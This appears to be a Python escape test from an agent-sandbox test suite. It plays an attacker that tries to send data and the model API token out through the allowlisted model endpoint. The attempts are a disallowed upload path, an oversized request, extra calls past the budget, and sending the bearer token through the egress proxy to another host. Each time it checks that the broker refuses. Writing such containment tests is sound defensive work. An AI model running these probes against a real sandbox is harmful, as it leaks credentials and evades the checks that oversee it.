#!/usr/bin/python3
# NET-16: The allowlisted model destination as an exfiltration channel
# Guarantee: the model connection is a narrow capability: allowed methods and path prefixes, finite calls and bytes
# argv: N OTHER_PORT; prints ESC-<N> for anything that got through.
import os; exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "prelude.py")).read())  # corral: inline prelude.py

# --- attack ---
import json
import urllib.error
import urllib.request

# The model endpoint and its token, as the preset maps them into the agent's settings.
BASE = os.environ.get("OPENAI_BASE_URL", "")
TOKEN = os.environ.get("OPENAI_API_KEY", "")
OTHER = f"http://127.0.0.2:{ARGS[0]}/upload"
say(f"endpoint {BASE!r}, token {TOKEN[:7]!r}")
direct_opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))


def call(url, body, token=TOKEN, opener=direct_opener, method="POST"):
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = "Bearer " + token
    req = urllib.request.Request(url, data=body, headers=headers, method=method)
    try:
        with opener.open(req, timeout=30) as r:
            data = r.read()
            status, code = r.status, r.headers.get("X-Corral-Broker") or r.headers.get("X-Corral-Egress")
    except urllib.error.HTTPError as e:
        data = e.read()
        status, code = e.code, e.headers.get("X-Corral-Broker") or e.headers.get("X-Corral-Egress")
    except OSError as e:
        data, status, code = b"", 0, str(e)
    # Everything the worker received, for the judge to search for the real key.
    say(f"RECEIVED {status} {code} {data[:2000]!r}")
    return status, code


def expect_refused(label, got, code):
    status, c = got
    if 200 <= status < 300:
        esc(f"{label}: forwarded ({status})")
    elif c != code:
        esc(f"{label}: not refused as {code}: {status} {c}")
    else:
        say(f"{label}: refused {status} {c}")


small = json.dumps({"model": "m", "messages": [{"role": "user", "content": "hi"}]}).encode()
# A path outside the connection's prefixes (a files upload).
expect_refused("files upload", call(BASE + "/files", b"x" * 1024), "path_not_allowed")
# A request larger than the whole request byte budget.
expect_refused("oversized request", call(BASE + "/chat/completions", b"x" * (200 * 1024)),
               "request_bytes")
# The budget's calls, then call N+1.
for i in range(3):
    status, code = call(BASE + "/chat/completions", small)
    say(f"call {i + 1}: {status} {code}")
expect_refused("call N+1", call(BASE + "/chat/completions", small), "calls")
# The token sent through the egress proxy to another allowlisted destination; control: the
# same request without it goes through the proxy to that destination.
proxied = urllib.request.build_opener()
expect_refused("token elsewhere", call(OTHER, b"x", opener=proxied), "placeholder_elsewhere")
status, code = call(OTHER, b"x", token="", opener=proxied)
say(f"CONTROL-ELSEWHERE-{N} {status} {code}")
